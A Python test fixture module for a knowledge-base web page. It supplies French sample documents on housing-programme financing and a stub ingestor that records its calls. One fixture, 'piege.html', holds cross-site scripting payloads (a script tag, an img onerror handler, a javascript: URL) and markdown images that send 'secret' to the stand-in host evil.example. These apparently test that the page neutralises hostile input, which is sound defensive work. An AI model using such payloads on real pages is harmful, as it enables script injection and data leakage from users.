"""What the page is tested with: ordinary and hostile documents, and an ingestor whose state the test sets."""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

from kb.ports import Foresight, IngestionProgress
from kb.rights.rights import WHOLE, Rights
from kb.types import Document

ServePage = Callable[..., str]

FINANCING = Document(
    id="financement.md",
    source="d",
    title="Qui finance le programme",
    text=(
        "## Les financeurs\n\n"
        "Le programme est financé par trois partenaires. Action Logement apporte 72 % des aides du programme, "
        "soit 8,4 milliards d'euros. Le reste vient de l'État.\n\n"
        "| Financeur | Montant |\n| --- | --- |\n| Action Logement | 8,4 milliards |\n| Union sociale | 2,4 milliards |"
    ),
    url="https://www.example.org/financement",
    date="2025-12-04",
    rubric="Financement",
    kind="article",
)
QUARTERS = Document(
    id="quartiers.md",
    source="d",
    title="Les quartiers",
    text="Le renouvellement concerne 448 quartiers prioritaires.\n\n- Lyon : 12 quartiers prioritaires\n- Lille : 9",
    date="2024-12",
)
HOSTILE = Document(
    id="piege.html",
    source="d",
    title="<script>document.title='pris'</script>![](https://evil.example/?q=) **gras**",
    text=(
        "Le dossier piégé contient <img src=x onerror=\"document.title='pris'\"> et "
        "![](https://evil.example/?q=secret) dans sa phrase piégée. "
        "[Un lien](https://evil.example/) $$x$$ _souligné_ `code`."
    ),
    url="javascript:document.title='pris'",
    rubric="<b>rubrique</b>",
)
DOCUMENTS = (FINANCING, QUARTERS, HOSTILE)
EXAMPLES = ("Qui finance le programme ?", "Combien de quartiers prioritaires ?", "Que dit <script> ?", "Et Lyon ?")


class StillIngestor:
    """An ingestor whose progress the test sets; starting one is told by it."""

    def __init__(self) -> None:
        self.now = IngestionProgress()
        self.foresight = Foresight()
        self.asked: list[tuple[Any, ...]] = []

    def progress(self) -> IngestionProgress:
        """What the test set."""
        return self.now

    @property
    def suffixes(self) -> tuple[str, ...]:
        """Two kinds of files."""
        return (".md", ".pdf")

    def ingest_uploads(self, *, withdrawn: bool = False) -> None:
        """Told by `asked`."""
        self.asked.append(("uploads", "withdrawn" if withdrawn else ""))

    def ingest_addresses(self, urls: Sequence[str]) -> None:
        """Told by `asked`."""
        self.asked.append(("addresses", *urls))

    def foresee(self) -> None:
        """Told by `asked`."""
        self.asked.append(("foresee",))

    def foreseen(self) -> Foresight:
        """What the test set."""
        return self.foresight

    def drop_foreseen(self) -> None:
        """Told by `asked`."""
        self.asked.append(("drop",))

    def previews(self, what: Sequence[str]) -> Sequence[Mapping[str, Any]]:
        """Each as `_preview` has it."""
        return [self._preview(one) for one in what]

    def _preview(self, what: str) -> Mapping[str, Any]:
        """A file as it is; one whose name says so cannot be read."""
        if "illisible" in what:
            return {"error": "ce fichier est illisible"}
        text = Path(what).read_text("utf-8") if Path(what).is_file() else "Une page."
        return {
            "id": what,
            "title": "Titre compris",
            "date": "2025",
            "url": None,
            "rubric": None,
            "kind": None,
            "programmes": [],
            "partners": [],
            "pages": 0,
            "characters": len(text),
            "remarks": ["2 commentaires laissés de côté"],
            "text": text,
            "passages": 1,
            "first_passages": [text],
        }

    def correct(self, document_id: str, fields: Mapping[str, str] | None, title: str = "") -> bool:
        """Told by `asked`."""
        self.asked.append(("correct", document_id, fields))
        return True

    def merge(self, field: str, values: Sequence[str], into: str, rights: Rights = WHOLE) -> bool:
        """Told by `asked`."""
        self.asked.append(("merge", field, tuple(values), into, *rights.hidden))
        return True

    def forget(self, document_id: str, title: str = "") -> bool:
        """Told by `asked`."""
        self.asked.append(("forget", document_id))
        return True

    def start(self, *, foreseen: str = "", confirm: bool = False) -> None:
        """An ingestion that stands at 12 of 44 documents; what was confirmed is told by `asked`."""
        if foreseen:
            self.asked.append(("foreseen", foreseen, confirm))
        self.now = IngestionProgress(running=True, done=12, total=44)
